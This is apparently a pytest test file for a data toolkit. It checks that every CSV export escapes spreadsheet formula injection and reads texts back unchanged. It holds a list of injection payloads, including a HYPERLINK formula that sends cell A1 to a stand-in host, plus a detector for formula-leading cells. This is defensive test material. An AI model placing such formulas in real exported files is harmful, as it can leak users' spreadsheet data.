"""No file that the toolkit writes runs a formula when a spreadsheet opens it, and its texts come back as they were."""

import ast
import csv
import re

import numpy as np
import pandas as pd
import pytest
from places import ROOT

from toolkit import Scores, Study
from toolkit.audit.export import export_study
from toolkit.batch.result import BatchResult, CellResult
from toolkit.files.tables import csv_bytes, csv_text, frame_of_csv, guard, read_rows, unguard
from toolkit.store import embedded

pytestmark = pytest.mark.usefixtures("no_pictures")

PACKAGE = ROOT / "toolkit"
LINK = '=HYPERLINK("http://x/?"&A1,"open")'
HOSTILE = (
    *(LINK, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "＝1+1", "＋1", "'=1", "''"),
    *("－1", "＠x", "\n=1", "\0=1"),
)
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?|-?inf", re.IGNORECASE)


def formulas(path):
    """Return the cells of a CSV file that a spreadsheet would run."""
    signs = tuple("=+-@\t\r\n\0＝＋－＠")
    with path.open(encoding="utf-8", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row if cell.startswith(signs)]
    return [cell for cell in cells if not NUMBER.fullmatch(cell)]


def test_one_file_writes_csv():
    """Whatever writes a table elsewhere would have to guard it too."""
    writers = {"to_csv", "to_excel", "to_clipboard", "write_csv", "DictWriter", "savetxt", "CSVWriter"}
    found = set()
    for path in PACKAGE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            name = getattr(node, "attr", getattr(node, "id", ""))
            if name in writers or (name == "writer" and ast.unparse(node) == "csv.writer"):
                found.add(path)
    assert found == {PACKAGE / "files" / "tables.py"}


@pytest.mark.parametrize("text", [*HOSTILE, "plain", "", "'", "a=1", "-", "1_0"])
def test_a_text_comes_back(text, tmp_path):
    """From frames, from rows, and from what reads the tables of others; names of columns too."""
    assert unguard(guard(text)) == text
    path = tmp_path / "t.csv"
    path.write_bytes(csv_bytes(pd.DataFrame({"a": [text, "x"], text or "b": ["y", 2]})))
    assert not formulas(path)
    assert [row["a"] for _, row in read_rows(path)] == [text, "x"]
    if text and not text[0].isspace() and "\0" not in text:
        assert frame_of_csv(path).columns.tolist() == ["a", text]
    path.write_text(csv_text([["a", "b"], [text, "-0.5"]], {0}), encoding="utf-8", newline="")
    assert not formulas(path)
    assert list(read_rows(path)) == [(2, {"a": text, "b": "-0.5"})]


def test_a_negative_number_is_no_text():
    """Of whatever type it is, in a column of its own or among texts."""
    mixed = pd.Series([np.int64(-5), -0.5, np.float32(-2), "-x", None, True], dtype="object")
    cells = csv_bytes(pd.DataFrame({"a": mixed})).decode().split()
    assert " ".join(cells) == 'a -5 -0.5 -2.0 \'-x "" True'


def hostile_ratings():
    """Return ratings in which every name is a formula."""
    rng = np.random.default_rng(4)
    rows = [
        (f"{HOSTILE[item % 4]}{item}", model, judge, part, kind, int(rng.integers(1, 6)))
        for item in range(14)
        for model in (LINK, "-2+3")
        for judge, kind in ((LINK, "llm"), ("+1+1", "llm"), ("-1", "human"))
        for part in ("@SUM(1)", "+2")
    ]
    return pd.DataFrame(rows, columns=["item", "model", "judge", "dimension", "human", "score"])


def test_no_table_of_somebody_s_scores_is_a_formula(tmp_path):
    """Every CSV of a bundle: the data of figures, tables and statistics."""
    scores = Scores(hostile_ratings(), name="hostile")
    tables = [path for path in scores.bundle(tmp_path / "bundle", supplement=True) if path.suffix == ".csv"]
    assert len(tables) > 15
    assert {path.name: formulas(path)[:2] for path in tables if formulas(path)} == {}
    assert any("'=HYPERLINK" in path.read_text(encoding="utf-8") for path in tables)
    exported = tmp_path / "ratings.csv"
    exported.write_bytes(csv_bytes(hostile_ratings()))
    again = Scores.load(exported)
    assert again.runs()["base"].tolist() == scores.runs()["base"].tolist()
    assert set(again.judgements()["judge"]) == {LINK, "+1+1"}


STUDY = """
name = "formulas"
output = "results"
bases = 2
scenarios = ["SOC_INCIDENT"]
length_bins = ["S", "M"]

[[models]]
name = '=HYPERLINK("http://x")'
provider = "scripted"
replies = ['=HYPERLINK("http://x")', "@SUM(1)"]

[[models]]
name = "+1+1"
provider = "scripted"
planted = { level = 3.0 }

[judges]
tertiary = false
primary = { name = "-2+3", provider = "scripted", planted = { level = 3.0 } }
secondary = { name = "@SUM(2)", provider = "scripted", planted = { level = 3.0 } }
"""


def test_no_table_of_a_study_is_a_formula(tmp_path):
    """Its bundle and its export; the export is read back as scores under the names that the models have."""
    (tmp_path / "study.toml").write_text(STUDY)
    try:
        with Study.load(tmp_path / "study.toml") as study:
            study.run(progress=False)
            study.bundle()
            export_study(study, tmp_path / "out")
            judgements = study.judgements()
    finally:
        embedded.stop(tmp_path / "results" / ".store")
    tables = [path for path in tmp_path.rglob("*.csv") if ".store" not in path.parts]
    assert len(tables) > 10
    assert {path.name: formulas(path)[:2] for path in tables if formulas(path)} == {}
    rows = [row for _, row in read_rows(tmp_path / "out" / "judgements.csv")]
    assert [row["model"] for row in rows] == judgements["model"].tolist()


def test_no_table_of_a_batch_is_a_formula(tmp_path):
    """Parameters, errors and what the notebooks gave."""
    cells = [
        CellResult({"text": text}, "failed", 1.0, error=text, notebook="n.ipynb", ran=True) for text in HOSTILE
    ]  # fmt: skip
    BatchResult("t", tmp_path, tuple(cells), 1.0).write()
    assert formulas(tmp_path / "summary.csv") == []
    assert [row["error"] for _, row in read_rows(tmp_path / "summary.csv")] == list(HOSTILE)
